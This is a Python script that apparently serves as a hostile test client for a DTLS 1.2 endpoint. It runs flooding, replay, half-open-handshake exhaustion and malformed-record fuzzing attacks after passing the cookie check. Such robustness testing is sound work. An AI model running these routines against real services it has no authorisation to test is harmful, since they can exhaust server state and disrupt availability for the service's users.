#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A hostile client of a DTLS 1.2 endpoint: attacker.py ATTACK ADDRESS N. Prints what it saw.

Every attack has a valid cookie first, so that it gets beyond the stateless gate.
"""
import random
import socket
import struct
import sys
import time

PORT = 5684
rng = random.Random(1)


def record(kind, seq, body, epoch=0, version=0xFEFD):
    return struct.pack("!BHHQ", kind, version, epoch, seq << 16)[:11] + struct.pack("!H", len(body)) + body


def message(kind, seq, body, off=0, total=None):
    length = len(body) if total is None else total
    return (struct.pack("!B", kind) + length.to_bytes(3, "big") + struct.pack("!H", seq) +
            off.to_bytes(3, "big") + len(body).to_bytes(3, "big") + body)


def hello_body(rand, cookie=b""):
    return (b"\xfe\xfd" + rand + b"\0" + bytes([len(cookie)]) + cookie +
            bytes.fromhex("0004 00a8 c0a8 01 00 0004 0017 0000"))


def hello(rand, seq, cookie=b""):
    return record(22, seq, message(1, seq, hello_body(rand, cookie)))


def socket_to(address, source=None):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    if source:
        s.bind((source, 0))
    s.connect((address, PORT))
    s.settimeout(1)
    return s


def receive(s):
    try:
        return s.recv(2048)
    except socket.timeout:
        return b""


def cookie_of(s, rand):
    """Sends a first hello; the cookie out of its HelloVerifyRequest."""
    s.send(hello(rand, 0))
    answer = receive(s)
    return answer[28:28 + answer[27]] if len(answer) > 28 and answer[13] == 3 else None


def verified(s):
    """Random and cookie of this socket, for a hello that will be admitted."""
    for _ in range(5):
        rand = rng.randbytes(32)
        cookie = cookie_of(s, rand)
        if cookie:
            return rand, cookie
    raise SystemExit("no HelloVerifyRequest")


def begin(s):
    """Up to the ServerHello: whether it came."""
    rand, cookie = verified(s)
    s.send(hello(rand, 1, cookie))
    return receive(s)[13:14] == b"\x02"


ALERT = record(21, 2, b"\x02\x28")


def abandon(address, n):
    """Handshakes that end in a fatal alert in the clear, each on a port of its own."""
    begun = 0
    for _ in range(n):
        with socket_to(address) as s:
            begun += begin(s)
            s.send(ALERT)
    print(f"begun {begun} of {n}")


def replay(address, n):
    """One valid hello, n times."""
    with socket_to(address) as s:
        rand, cookie = verified(s)
        datagram = hello(rand, 1, cookie)
        got = 0
        s.setblocking(False)
        for i in range(n):
            s.send(datagram)
            if i % 64 == 0:
                try:
                    while s.recv(2048):
                        got += 1
                except BlockingIOError:
                    pass
        s.settimeout(0.3)
        while receive(s):
            got += 1
        print(f"answers {got}")
        s.send(ALERT)


def supersede(address, n):
    """New hellos of one flow, one after the other: each ends the one before it."""
    with socket_to(address) as s:
        begun = sum(begin(s) for _ in range(n))
        s.send(ALERT)
    print(f"begun {begun} of {n}")


def fill(address, n):
    """Handshakes that are left alone. The sockets stay open, so that all ports differ."""
    sockets = [socket_to(address) for _ in range(n)]
    begun = sum(begin(s) for s in sockets)
    print(f"begun {begun} of {n}")


def junk_records(s):
    """Plausible pieces of a handshake, wrong in one way or another."""
    seq = rng.randrange(2, 1 << 16)
    key_exchange = struct.pack("!H", 4) + b"dev1"
    kind = rng.choice((1, 2, 11, 12, 14, 15, 16, 20, 99))
    body = rng.randbytes(rng.choice((0, 1, 12, 40, 600)))
    epoch = rng.choice((0, 1, 1, 2, 65535))
    choices = (
        lambda: record(22, seq, message(kind, rng.randrange(6), body)),
        lambda: record(22, seq, message(16, 2, key_exchange)),
        lambda: record(22, seq, message(16, 2, key_exchange[:3], 0, 6)),
        lambda: record(22, seq, message(16, 2, b"", 3, 6)),
        lambda: record(22, seq, message(16, 2, body, 1, 1 + len(body))),
        lambda: record(22, seq, message(16, 2, body, 0, 0xFFFFFF)),
        lambda: record(22, seq, message(16, 65535, body)),
        lambda: record(20, seq, rng.choice((b"\1", b"\2", b"\1\1", b""))),
        lambda: record(22, seq, rng.randbytes(40), 1),
        lambda: record(rng.choice((21, 22, 23, 25, 20)), seq, body, epoch),
        lambda: record(21, seq, rng.choice((b"\1\0", b"\1\x5a", b"\2", b"\2\x28\0", b""))),
        lambda: record(22, (1 << 48) - 1, message(16, 2, key_exchange)),
        lambda: rng.randbytes(rng.randrange(64)),
    )
    return b"".join(rng.choice(choices)() for _ in range(rng.choice((1, 1, 2, 3, 17))))[:1400]


def junk(address, n):
    """Handshakes that go on with nonsense."""
    for _ in range(n):
        with socket_to(address) as s:
            begin(s)
            for _ in range(rng.randrange(6)):
                s.send(junk_records(s))
            s.send(ALERT)
    print("done")


def mangled(address, n):
    """Admitted hellos with a byte or a length changed (the cookie is that of the good one)."""
    with socket_to(address) as s:
        rand, cookie = verified(s)
        s.setblocking(False)
        for _ in range(n):
            d = bytearray(hello(rand, 1, cookie))
            for _ in range(rng.randrange(1, 4)):
                d[rng.randrange(len(d))] = rng.randrange(256)
            s.send(bytes(d[:rng.choice((len(d), len(d), rng.randrange(len(d))))]))
            try:
                while s.recv(2048):
                    pass
            except (BlockingIOError, ConnectionError):
                pass
        time.sleep(0.3)  # what was sent has become a handshake by then, which the alert ends
        s.send(ALERT)
    print("done")


if __name__ == "__main__":
    attacks = {f.__name__: f for f in (abandon, replay, supersede, fill, junk, mangled)}
    attacks[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
